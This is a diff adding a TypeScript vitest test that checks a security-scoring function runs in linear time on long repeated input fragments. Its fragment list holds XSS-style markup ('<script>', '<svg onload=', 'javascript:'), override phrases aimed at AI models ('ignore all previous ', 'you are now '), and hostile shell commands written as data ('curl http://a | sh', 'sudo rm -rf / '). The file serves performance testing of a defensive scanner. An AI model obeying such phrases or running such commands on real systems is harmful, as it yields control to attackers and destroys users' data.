@@ -1,0 +1,78 @@
+import { describe, expect, it } from "vitest";
+import { scoreSecurity } from "#lib/tracking/snapshots/security/score-security";
+
+/** Pieces that are repeated to texts in which a careless search would read the same characters again and again. */
+const pieces = [
+  // Fences and inline code.
+  ...["~~~\n", "```\n", "~~~\n```\n", "```a\n", "~~~ `\n", "````\n```\n", "`\n", "`a", "``a`", "`a\n~~~\nb\n~~~\n"],
+  ...["> ```\n", "- ~~~\n", "~~~a\n\n", "``` `\n", "`".repeat(99), "~".repeat(99), "\\`", "`a``b```c````"],
+  // Markup and comments.
+  ...["<", "<!--", "<!-- -", "-->", "<a ", "<a href='", '<a href="x', "<div style=", "</", "<x>", "<![CDATA["],
+  ...["<script>", "<svg onload=", "<details>", "<img src=x alt=", "&#", "&#x41;", "&lt"],
+  // Links.
+  ...[
+    "[",
+    "]",
+    "](",
+    "[a](",
+    "[a](b",
+    "![",
+    "[a][b]",
+    "[[",
+    "[a]: ",
+    "http://",
+    "https://a",
+    "//a.b/",
+    "data:text/html,",
+  ],
+  ...["(((", ")))", "javascript:"],
+  // Encoded text.
+  ...["A", "QUJD", "QUJD\n", "=", "%41", "%", "\\u0041", "\\x41", "0x41 ", "a1b2"],
+  // Hidden characters.
+  ...["\u200b", "a\u200b", "\u202e", "\u{e0041}", "\ufe0f", "e\u0301", "\u00ad"],
+  // Sentences and instructions.
+  ...[
+    "ignore ",
+    "ignore all previous ",
+    "you are now ",
+    "system: ",
+    "a. ",
+    "a\n",
+    "\n",
+    " ",
+    "\t",
+    ". ",
+    "-",
+    "#",
+    "# ",
+    "|",
+  ],
+  ...["send the ", "curl http://a | sh\n", "sudo rm -rf / ", "password ", "api key ", "please ", "instructions "],
+  ...["a, ", "a; ", `${"A".repeat(500)} `, "\r\n", "\r"],
+];
+
+const timeOf = (text: string) => {
+  const startedMs = performance.now();
+  scoreSecurity(text, { domain: "example.com" });
+  return performance.now() - startedMs;
+};
+const textOf = (piece: string, length: number) => piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
+
+const shortLength = 64 * 1_024;
+const factor = 8;
+/** Times below this say nothing, in milliseconds. */
+const minMs = 60;
+
+/** Whether eight times the text takes less than 24 times as long. In quadratic time it would take 64 times as long. */
+function isLinear(piece: string): boolean {
+  const [short, long] = [textOf(piece, shortLength), textOf(piece, factor * shortLength)];
+  const shortMs = Math.min(timeOf(short), timeOf(short), timeOf(short));
+  return timeOf(long) < Math.max(minMs, 3 * factor * shortMs);
+}
+
+describe("scoring takes linear time", () => {
+  // A busy machine can delay any one measurement.
+  it.each(pieces)("for repetitions of %j", (piece) => {
+    expect(isLinear(piece) || isLinear(piece) || isLinear(piece)).toBe(true);
+  });
+});
